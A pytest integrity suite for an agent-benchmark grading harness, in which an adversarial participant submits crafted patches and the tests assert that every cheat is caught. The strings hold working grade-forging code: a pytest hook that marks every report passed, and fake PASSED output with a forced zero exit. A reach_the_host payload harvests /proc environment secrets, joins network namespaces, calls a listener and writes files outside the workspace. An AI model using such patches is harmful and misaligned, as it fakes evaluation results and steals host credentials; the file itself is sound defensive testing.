"""Integrity end to end: an adversarial participant (a real A2A server on 127.0.0.1) answers
the sample's tasks with crafted patches that try to forge their grade or reach the host.
Every cheat must end non-resolved with a reason; no canary secret of the green agent may
reach the listener, the logs or the host; nothing may be written outside the workspace."""

from __future__ import annotations

import ast
import asyncio
import contextlib
import json
import re
import socket
import subprocess
import textwrap
import threading
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from swegreen.core.dataset import load_dataset
from swegreen.sample import SampleBenchmark
from tests.helpers import GIT_ID, Server, read_jsonl, start
from tests.test_agent import assess

CANARY = f"canary-{uuid.uuid4().hex}"
CANARY_AWS = f"canary-aws-{uuid.uuid4().hex}"

REWRITE_REPORTS = """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
"""

FAKE_PASSED_AT_EXIT = """
import atexit as _atexit, glob as _glob, os as _os, re as _re, sys as _sys

def _fake_results():
    for path in sorted(_glob.glob("tests/test_*.py")):
        for name in _re.findall(r"^def (test_\\w+)", open(path).read(), _re.M):
            print("PASSED %s::%s" % (path, name))
    _sys.stdout.flush()
    _os._exit(0)

if "pytest" in _sys.modules:
    _atexit.register(_fake_results)
"""


def reach_the_host(port: int, targets: list[str]) -> str:
    return textwrap.dedent(f"""
        import ctypes as _ct, glob as _glob, os as _os, socket as _socket

        def _attack():
            found = []
            for path in _glob.glob("/proc/*/environ"):
                try:
                    data = open(path, "rb").read()
                except OSError:
                    continue
                found.append(data)
            libc = _ct.CDLL(None, use_errno=True)
            joined = 0
            for ns in _glob.glob("/proc/*/ns/net"):
                try:
                    fd = _os.open(ns, _os.O_RDONLY)
                    joined += libc.setns(fd, 0) == 0
                    _os.close(fd)
                except OSError:
                    pass
            try:
                s = _socket.create_connection(("127.0.0.1", {port}), timeout=3)
                s.sendall(b"CALLED HOME " + b"|".join(found))
                s.close()
                print("ATTACK called home")
            except OSError as exc:
                print("ATTACK could not call home:", exc)
            for target in {targets!r}:
                try:
                    with open(target, "w") as fh:
                        fh.write("pwned")
                    print("ATTACK wrote", target)
                except OSError as exc:
                    print("ATTACK could not write", target, exc)
            print("ATTACK uid", _os.getuid(), "pids", sorted(_glob.glob("/proc/[0-9]*")))
            print("ATTACK environs", b"|".join(found).decode("latin-1"))
            print("ATTACK own env", dict(_os.environ))

        # pytest captures what collection prints: report once it has let go of stdout
        import atexit as _atexit, contextlib as _cl, io as _io
        _report = _io.StringIO()
        with _cl.redirect_stdout(_report):
            _attack()
        _atexit.register(lambda: print(_report.getvalue(), flush=True))
    """)


@dataclass
class Listener:
    """A TCP server on loopback that remembers everything sent to it."""

    port: int = 0
    received: list[bytes] = field(default_factory=list)
    connections: int = 0

    def serve(self) -> Callable[[], None]:
        srv = socket.socket()
        srv.bind(("127.0.0.1", 0))
        srv.listen()
        srv.settimeout(0.2)
        self.port = srv.getsockname()[1]
        stop = threading.Event()

        def loop() -> None:
            while not stop.is_set():
                try:
                    conn, _ = srv.accept()
                except OSError:
                    continue
                self.connections += 1
                with conn:
                    conn.settimeout(2)
                    with contextlib.suppress(OSError):
                        while chunk := conn.recv(65536):
                            self.received.append(chunk)

        thread = threading.Thread(target=loop, daemon=True)
        thread.start()

        def close() -> None:
            stop.set()
            thread.join(timeout=5)
            srv.close()

        return close


def crafted_patch(repo: Path, base: str, work: Path, edit: Callable[[Path], None]) -> str:
    """A real ``git diff`` of ``edit`` made on a checkout of ``repo`` at ``base``."""
    subprocess.run(["git", "clone", "-q", str(repo), str(work)], check=True)
    subprocess.run(["git", "-C", str(work), "checkout", "-q", base], check=True)
    edit(work)
    subprocess.run(["git", "-C", str(work), *GIT_ID, "add", "-A"], check=True)
    return subprocess.run(
        ["git", "-C", str(work), "diff", "--cached", "--binary", base],
        check=True,
        capture_output=True,
        text=True,
    ).stdout


def write(path: Path, text: str, append: bool = False) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a" if append else "w") as fh:
        fh.write(text)


@dataclass
class Attack:
    rows: dict[str, dict[str, Any]]
    artifacts_text: str
    listener: Listener
    host_targets: list[Path]


@pytest.fixture(scope="module")
def attack(
    session_cache: Path, sample: SampleBenchmark, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Attack]:
    out = tmp_path_factory.mktemp("integrity")
    dataset = {i.instance_id: i for i in load_dataset(str(sample.dataset)).instances}
    listener = Listener()
    close = listener.serve()
    host_targets = [
        out / "pwned-host-file",
        session_cache / "envs" / "pwned-env",
        session_cache / "repos" / "pwned-mirror",
        Path("/tmp") / f"pwned-{uuid.uuid4().hex}",
    ]

    def fake_plugin(root: Path) -> None:
        write(root / "cheat_plugin.py", REWRITE_REPORTS)

    edits: dict[str, Callable[[Path], None]] = {
        # a conftest.py hook in the test directory that turns every report into a pass
        "sample__calculator-1": lambda r: write(r / "tests" / "conftest.py", REWRITE_REPORTS),
        # the same hook appended to the repository's own root conftest.py
        "sample__calculator-2": lambda r: write(r / "conftest.py", REWRITE_REPORTS, True),
        # prints PASSED for every test at exit and forces exit code 0
        "sample__textkit-1": lambda r: write(
            r / "textkit" / "__init__.py", FAKE_PASSED_AT_EXIT, True
        ),
        # edits a test file into passing
        "sample__textkit-2": lambda r: write(
            r / "tests" / "test_wrap.py", "def test_truncate_fits_width():\n    pass\n"
        ),
        # reads every process's environment, joins their network namespaces, calls home,
        # writes outside the workspace
        "sample__textkit-3": lambda r: write(
            r / "textkit" / "__init__.py",
            reach_the_host(listener.port, [str(t) for t in host_targets]),
            True,
        ),
        # a chain of symlinks that escapes only as a whole
        "sample__ledger-1": lambda r: (
            (r / "y").symlink_to("."),
            (r / "x").symlink_to("y/.."),
        ),
        # a patch over max_patch_bytes (5 MB): a valid diff adding a 6 MB file
        "sample__calculator-3": lambda r: (
            write(r / "calculator" / "blob.py", "#" * 99 + "\n")
            or write(r / "calculator" / "blob.py", ("# " + "x" * 97 + "\n") * 60_000, True)
        ),
        # a plugin loaded through pytest configuration in pyproject.toml
        "sample__ledger-2": lambda r: (
            fake_plugin(r),
            write(r / "pyproject.toml", '[tool.pytest.ini_options]\naddopts = "-p cheat_plugin"\n'),
        ),
    }
    predictions = out / "attacks.jsonl"
    lines = []
    for iid, edit in edits.items():
        inst = dataset[iid]
        repo = sample.repos_dir / inst.repo.replace("/", "__")
        patch = crafted_patch(repo, inst.base_commit, out / "work" / iid, edit)
        lines.append({"instance_id": iid, "model_name_or_path": "adversary", "model_patch": patch})
    predictions.write_text("".join(json.dumps(x) + "\n" for x in lines))
    secrets = {"OPENAI_API_KEY": CANARY, "AWS_SECRET_ACCESS_KEY": CANARY_AWS}
    servers: list[Server] = []
    try:
        green = start(["serve", "--no-diagnoses"], session_cache, out, "green", env=secrets)
        servers.append(green)
        adversary = start(
            ["participant", "predictions", "--predictions", str(predictions)],
            session_cache,
            out,
            "adversary",
        )
        servers.append(adversary)
        request = {
            "participants": {"agent": adversary.url},
            "config": {
                "dataset": "swegreen:sample",
                "instance_ids": list(edits),
                "max_concurrent_rows": 2,
            },
        }
        outcome = asyncio.run(assess(green.url, request))
        assert outcome.state == "TASK_STATE_COMPLETED", outcome.statuses[-3:]
        rows = {
            r["instance_id"]: r
            for p in (out / "green").rglob("instances.jsonl")
            for r in read_jsonl(p)
        }
        texts = [
            p.read_text(errors="replace")
            for p in (out / "green").rglob("*")
            if p.is_file() and p.suffix in (".txt", ".json", ".jsonl", ".log", ".sh", ".diff")
        ]
        texts.append(green.log.read_text(errors="replace"))
        yield Attack(rows, "\x00".join(texts), listener, host_targets)
    finally:
        close()
        for server in servers:
            server.proc.terminate()
        for server in servers:
            with contextlib.suppress(subprocess.TimeoutExpired):
                server.proc.wait(timeout=10)
        for target in host_targets:
            target.unlink(missing_ok=True)


def test_every_attack_was_graded(attack: Attack) -> None:
    assert len(attack.rows) == 8
    assert all(r["status"] != "resolved" for r in attack.rows.values()), {
        k: (r["status"], r["reason"]) for k, r in attack.rows.items()
    }


@pytest.mark.parametrize(
    ("iid", "files"),
    [
        ("sample__calculator-1", ["tests/conftest.py"]),
        ("sample__calculator-2", ["conftest.py"]),
        ("sample__textkit-2", ["tests/test_wrap.py"]),
        ("sample__ledger-2", ["pyproject.toml"]),
    ],
)
def test_test_infrastructure_changes_are_put_back(
    attack: Attack, iid: str, files: list[str]
) -> None:
    row = attack.rows[iid]
    assert row["tampered"] is True and row["tampered_files"] == files
    assert row["status"] in ("no_op", "regression"), (row["status"], row["reason"])
    assert row["f2p_passed"] == 0  # the fix is not there, and the cheat no longer runs
    assert row["isolation"] == "bwrap"


def test_fake_passed_lines_and_a_forced_exit_code_are_caught(attack: Attack) -> None:
    row = attack.rows["sample__textkit-1"]
    assert (row["status"], row["reason"]) == ("error", "log_tampering")
    assert "pytest recorded failed, the log says PASSED" in row["detail"]
    assert "exit status 1, the test command with 0" in row["detail"]


def test_a_huge_patch_is_refused_unread(attack: Attack) -> None:
    row = attack.rows["sample__calculator-3"]
    assert (row["status"], row["reason"]) == ("no_op", "patch_too_large")
    assert row["patch_bytes"] > 5_000_000 and "max_patch_bytes" in row["detail"]


def test_a_symlink_chain_that_escapes_is_refused(attack: Attack) -> None:
    row = attack.rows["sample__ledger-1"]
    assert (row["status"], row["reason"]) == ("no_op", "patch_outside_repo")
    assert "'x'" in row["detail"]


def test_test_code_cannot_reach_the_host_or_its_secrets(attack: Attack) -> None:
    row = attack.rows["sample__textkit-3"]
    assert row["status"] != "resolved" and row["tests_ran"] is True
    # the attack ran (its output is in the log), but found nothing and reached nothing
    log = next(
        t for t in attack.artifacts_text.split("\x00") if "\nATTACK could not call home" in t
    )
    assert "\nATTACK called home" not in log
    seen = re.search(r"^ATTACK uid (\d+) pids (\[.*\])$", log, re.M)
    assert seen is not None
    assert len(ast.literal_eval(seen.group(2))) < 20  # its own PID namespace: no host process
    assert attack.listener.connections == 0 and attack.listener.received == []
    for secret in (CANARY, CANARY_AWS):
        assert secret not in attack.artifacts_text
    for target in attack.host_targets:
        assert not target.exists(), target
